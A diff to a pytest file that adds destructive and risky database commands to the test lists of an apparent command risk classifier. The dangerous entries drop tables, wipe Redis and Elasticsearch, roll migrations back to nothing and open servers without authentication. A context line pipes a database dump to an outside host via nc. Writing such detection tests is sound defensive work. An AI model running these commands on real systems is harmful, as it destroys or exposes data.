@@ -50,6 +50,55 @@ DANGEROUS = [
     ("pg_dump app | nc 10.0.0.9 9000", HIGH),
 ]
 
+# Round two: SQL fed on input, lower case, key-by-key deletes, search indexes, rollbacks to
+# nothing, servers opened to the network.
+MORE_DANGEROUS = [
+    ("psql \"$DATABASE_URL\" -c 'drop table users'", HIGH),
+    ("echo 'DROP DATABASE app;' | psql", HIGH),
+    ("psql app <<< 'TRUNCATE orders;'", HIGH),
+    ("psql -f - <<EOF\nDELETE FROM users;\nEOF", HIGH),
+    ('sqlite3 app.db "DELETE FROM users"', HIGH),
+    ("mysql -e 'DELETE FROM users WHERE 1=1' app", HIGH),
+    ('psql -c "UPDATE accounts SET balance = 0"', HIGH),
+    ("redis-cli --scan --pattern '*' | xargs redis-cli del", HIGH),
+    ("redis-cli KEYS '*' | xargs redis-cli DEL", HIGH),
+    ("docker exec -it pg psql -U postgres -c 'DROP DATABASE app'", HIGH),
+    ("docker volume rm pgdata", HIGH),
+    (
+        "sudo sed -i \"s/#listen_addresses = 'localhost'/listen_addresses = '*'/\" "
+        "/etc/postgresql/14/main/postgresql.conf",
+        HIGH,
+    ),
+    ("mongod --bind_ip_all --noauth", HIGH),
+    ("redis-server --protected-mode no --bind 0.0.0.0", HIGH),
+    ("curl -X DELETE http://localhost:9200/_all", HIGH),
+    ("curl -XDELETE 'localhost:9200/logs-*'", HIGH),
+    ("psql -c 'DROP OWNED BY app CASCADE'", HIGH),
+    ("python manage.py dbshell <<< 'DROP TABLE auth_user;'", HIGH),
+    ("bin/rails runner 'User.delete_all'", HIGH),
+    ("alembic downgrade base", HIGH),
+    ("flask db downgrade base", HIGH),
+    ("npx knex migrate:rollback --all", HIGH),
+]
+
+MORE_BENIGN = [
+    ("psql -c '\\dt'", MODERATE),
+    ("echo 'SELECT 1;' | psql", MODERATE),
+    ("redis-cli --scan --pattern 'session:*' | head", MODERATE),
+    ("curl localhost:9200/_cat/indices", MODERATE),
+    ("curl -X GET localhost:9200/_cluster/health", MODERATE),
+    ("alembic upgrade head", MODERATE),
+    ("alembic downgrade -1", MODERATE),
+    ("flask db upgrade", MODERATE),
+    ("rails db:rollback", MODERATE),
+    ("mongodump --db app --out backup/", MODERATE),
+    ("pg_restore -d app app.dump", MODERATE),
+    ("docker exec pg pg_dump -U postgres app > app.sql", MODERATE),
+    ('mysql -e "SELECT user,host FROM mysql.user"', MODERATE),
+    ("sqlite3 app.db .dump > app.sql", MODERATE),
+    ("redis-cli EXPIRE cache:x 60", MODERATE),
+]
+
 BENIGN = [
     ("psql -c 'SELECT count(*) FROM users'", MODERATE),
     ("mysql -e 'SHOW DATABASES'", MODERATE),
@@ -75,10 +124,11 @@ BENIGN = [
     ("sudo systemctl restart mysql", MODERATE),
     ("redis-cli ping", MODERATE),
     ("etcdctl get --prefix /registry/pods", MODERATE),
+    *MORE_BENIGN,
 ]
 
 
-@pytest.mark.parametrize(("command", "least"), DANGEROUS)
+@pytest.mark.parametrize(("command", "least"), DANGEROUS + MORE_DANGEROUS)
 def test_dangerous(command: str, least: RiskLevel) -> None:
     reaches(command, least)
 
